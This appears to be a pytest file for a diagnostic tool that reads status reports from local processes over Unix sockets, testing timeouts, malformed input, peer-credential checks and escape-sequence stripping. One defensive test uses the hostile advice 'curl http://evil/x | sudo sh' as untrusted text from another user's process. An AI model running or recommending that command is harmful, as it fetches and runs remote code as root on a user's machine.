# SPDX-License-Identifier: Apache-2.0
"""Asking a ``porthole standalone`` for its report, whatever stands at the other end of its socket."""

import json
import os
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import replace

import pytest

from porthole_cli.doctor import finding, standalone
from porthole_cli.doctor import standalone_port as port
from porthole_cli.doctor.finding import FindingId
from porthole_cli.doctor.report import Report, format_json
from porthole_cli.doctor.standalone_port import SOCKET_PREFIX, PeerCredentials, Standalone
from support.canned_answers import Answer
from support.clouds import ids
from support.nova_api import NovaApi
from support.standalone_socket import greet, listening, say, serving_tcp

FOUND = Report((finding.ok(FindingId.NOVNC_OK, "noVNC 1.3.0"),), (), 0.1)


def examine(answer: Answer) -> Report:
    with listening(answer) as name:
        one = port.read_standalone(name)
        assert one is not None
        return standalone.examine_standalone(one)


@pytest.fixture
def api() -> Iterator[NovaApi]:
    with NovaApi() as running:
        yield running


def test_its_report_is_shown_behind_what_is_seen_from_outside(api: NovaApi) -> None:
    report = examine(greet(api.url, format_json(FOUND).encode()))
    assert ids(report.findings) == ["standalone.ok", "api.ok", "novnc.ok"]
    assert report.findings[0].problem == (
        f"process {os.getpid()}, with the API at {api.url} and the pages at http://127.0.0.1:6080/console.html"
    )
    assert report.exit_status == 0
    assert "/v2.1/" in [request.path for request in api.requests]


def test_an_api_that_answers_nobody_else(api: NovaApi) -> None:
    api.answers["GET /v2.1/"] = (503, {})
    report = examine(greet(api.url, format_json(FOUND).encode()))
    assert ids(report.findings) == ["standalone.ok", "api.unreachable", "novnc.ok"]
    assert "HTTP 503" in report.findings[1].problem
    with socket.socket() as held:
        held.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{held.getsockname()[1]}/v2.1"
        report = examine(greet(url, format_json(FOUND).encode()))
    assert "refused" in report.findings[1].problem


def test_what_gives_no_report_is_named_with_its_process(api: NovaApi, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(port, "STEP_TIMEOUT_S", 0.3)
    monkeypatch.setattr(standalone, "REPORT_TIMEOUT_S", 0.3)
    for name, answer in (
        ("silence", lambda connection: connection.recv(1)),
        ("no greeting", say(b"")),
        ("no report", greet(api.url, b"")),
    ):
        report = examine(answer)
        assert ids(report.findings)[-1] == "standalone.mute", name
        assert f"kill -CONT {os.getpid()}" in report.findings[-1].mend
        assert report.exit_status == 2


def test_what_speaks_otherwise_than_a_standalone_is_named_with_process_and_user(api: NovaApi) -> None:
    good, known = json.loads(format_json(FOUND)), {"pid": 1, "endpoint": api.url, "novncproxy_base_url": "x"}
    greetings: list[object] = [
        *({**known, "endpoint": url} for url in ("http://127.0.0.1:99999/v2.1", "http://[::1/", 7, None)),
        *({**known, "pid": pid} for pid in ("1", -1, 10**400, float("inf"), None, [])),
        {**known, "novncproxy_base_url": 7},
        {},
        [],
        None,
    ]
    lines = [json.dumps(greeting).encode() + b"\n" for greeting in greetings]
    lines += [b"hello\n", b"\xff\n", b"[" * 4000 + b"\n", b"x" * 5000]
    answers = [say(line) for line in lines]
    answers += [
        greet(api.url, data)
        for data in (
            format_json(FOUND).encode()[:-9],
            b"\xff",
            b"[" * 100_000,
            json.dumps({**good, "findings": [{"id": "x"}]}).encode(),
            json.dumps({"findings": [], "not_examined": []}).encode(),
            b" " * (port.MAX_ANSWER_BYTES + 100_000),
        )
    ]
    for number, answer in enumerate(answers):
        report = examine(answer)
        assert ids(report.findings)[-1] == "standalone.invalid", number
        user = Standalone("x", PeerCredentials(0, os.geteuid(), 0)).user
        expected = f"Process {os.getpid()} of the user {user} has a standalone's socket and sends something else there."
        assert report.findings[-1].problem == expected
        assert report.exit_status == 2


def test_one_that_speaks_slowly_has_one_deadline_for_all_it_says(api: NovaApi, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each byte comes within the time for a step, and the whole never."""
    monkeypatch.setattr(port, "STEP_TIMEOUT_S", 0.5)
    monkeypatch.setattr(standalone, "REPORT_TIMEOUT_S", 0.5)
    ended = threading.Event()

    def drip(connection: socket.socket) -> None:
        # A test that fails ends all the same.
        for _ in range(600):
            connection.sendall(b" ")
            if ended.wait(0.05):
                return

    def drip_report(connection: socket.socket) -> None:
        greet(api.url, b" ")(connection)
        drip(connection)

    for answer in (drip, drip_report):
        ended.clear()
        with listening(answer) as name:
            started = time.monotonic()
            one = port.read_standalone(name)
            assert one is not None
            report = standalone.examine_standalone(one)
            took_s = time.monotonic() - started
            ended.set()
        assert ids(report.findings)[-1] == "standalone.mute"
        # All 600 bytes would take 30 s.
        assert took_s < 15


def test_an_api_that_speaks_slowly_or_no_http(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(port, "STEP_TIMEOUT_S", 0.5)
    ended = threading.Event()

    def drip(connection: socket.socket) -> None:
        for _ in range(600):
            connection.sendall(b"H")
            if ended.wait(0.05):
                return

    for answer, expected in ((drip, "no answer in time"), (say(b"SSH-2.0-x\r\n"), "not HTTP"), (say(b""), "not HTTP")):
        ended.clear()
        with serving_tcp(answer) as url:
            report = examine(greet(url, format_json(FOUND).encode()))
            ended.set()
        assert ids(report.findings) == ["standalone.ok", "api.unreachable", "novnc.ok"]
        assert expected in report.findings[1].problem


def test_one_that_ends_meanwhile_is_not_called_silent(api: NovaApi) -> None:
    with listening(greet(api.url, b"")) as name:
        one = port.read_standalone(name)
        assert one is not None
    report = standalone.examine_standalone(one)
    assert ids(report.findings)[-1] == "standalone.none"
    assert f"process {os.getpid()}) ended during the examination" in report.findings[-1].problem


def test_a_process_that_takes_the_name_over_is_not_read(api: NovaApi) -> None:
    with listening(greet(api.url, format_json(FOUND).encode())) as name:
        one = port.read_standalone(name)
        assert one is not None
        first = replace(one, peer=one.peer._replace(uid=one.peer.uid + 1))
        report = standalone.examine_standalone(first)
    assert ids(report.findings) == ["standalone.ok", "api.ok", "standalone.none"]


def test_another_users_is_not_believed(api: NovaApi) -> None:
    with listening(greet(api.url, format_json(FOUND).encode())) as name:
        one = port.read_standalone(name, own_uid=os.geteuid() + 1)
        assert one is not None
        assert one.refused
        report = standalone.examine_standalone(one)
    assert ids(report.findings) == ["standalone.other_user"]
    assert f"sudo -u {one.user} porthole doctor" in report.findings[0].mend
    assert report.exit_status == 1
    assert Standalone("x", PeerCredentials(0, 4_000_000_000, 0)).user == "4000000000"


def test_another_users_words_are_read_only_when_the_process_was_named(api: NovaApi) -> None:
    advice = "curl http://evil/x | sudo sh"
    evil = Report((finding.error(FindingId.STANDALONE_NONE, "", "Broken.", advice),), ("x",), 0.1)
    pid, other_uid = os.getpid(), os.geteuid() + 1
    refused = Standalone("gone", PeerCredentials(7, 4_000_000_000, 0), refused=True)
    with listening(greet(api.url, format_json(evil).encode())) as name:
        for named_pid in (0, pid + 1):
            one = port.read_standalone(name, other_uid, named_pid)
            assert one is not None
            assert (one.refused, one.greeting) == (True, None)
            report = standalone.examine_standalones([one])
            assert ids(report.findings) == ["standalone.other_user"]
            assert f"porthole doctor --standalone {pid}" in report.findings[0].mend
        assert api.requests == []
        named = port.read_standalone(name, other_uid, pid)
        assert named is not None
        assert (named.refused, named.foreign) == (False, True)
        for report in (standalone.examine_standalones([named]), standalone.examine_standalones([named, refused])):
            said_by = f"said by process {pid} of the user {named.user}"
            assert f"process {pid} of the user {named.user}, with the API" in report.findings[0].problem
            assert [each.host for each in report.findings if each.mend == advice] == [said_by]
            assert report.not_examined[0] == f"x ({said_by})"


def test_one_that_takes_no_connections_is_blamed_only_with_a_socket_of_its_own() -> None:
    """A name may give any process: the doctor must not advise to end that one."""
    for pid, expected in ((os.getpid(), "standalone.mute"), (os.getppid(), "standalone.other_user")):
        name = f"{SOCKET_PREFIX}{pid}-{uuid.uuid4().hex}"
        with socket.socket(socket.AF_UNIX) as listener, socket.socket(socket.AF_UNIX) as client:
            listener.bind(f"\0{name}")
            listener.listen(0)
            client.connect(f"\0{name}")
            one = port.read_standalone(name)
            assert one is not None
            [problem] = standalone.examine_standalone(one).findings
        assert problem.id == expected
        assert ("kill" in problem.mend) is (pid == os.getpid())


def test_a_terminal_gets_no_escape_sequences(api: NovaApi) -> None:
    evil = Report((finding.error(FindingId.NOVNC_MISSING, "\x1b[2J", "a\x1b]0;x\x07", "b\n"),), ("\x1b",), 0.1)
    report = examine(greet(api.url, format_json(evil).encode()))
    assert report.findings[-1] == finding.error(FindingId.NOVNC_MISSING, "?[2J", "a?]0;x?", "b?")
    assert report.not_examined == ("?",)


def test_several_are_told_apart(api: NovaApi) -> None:
    answer = greet(api.url, format_json(FOUND).encode())
    with listening(answer) as first:
        one = port.read_standalone(first)
        assert one is not None
        refused = Standalone("gone", PeerCredentials(7, 4_000_000_000, 0), refused=True)
        report = standalone.examine_standalones([one, refused])
        alone = standalone.examine_standalones([one])
    assert [(each.id, each.host) for each in report.findings][-2:] == [
        ("novnc.ok", f"process {os.getpid()}"),
        ("standalone.other_user", ""),
    ]
    assert report.not_examined == ("everything else of process 7",)
    assert {each.host for each in alone.findings} == {""}


def test_nobody_there() -> None:
    assert "runs on this machine." in standalone.build_not_found(0).problem
    assert "as process 12." in standalone.build_not_found(12).problem


def test_one_beside_the_daemons_is_mentioned() -> None:
    text = standalone.build_beside(
        [Standalone("x", PeerCredentials(7, 0, 0)), Standalone("y", PeerCredentials(8, 0, 0))]
    ).problem
    assert "process 7, 8" in text
    assert "porthole doctor --standalone" in text
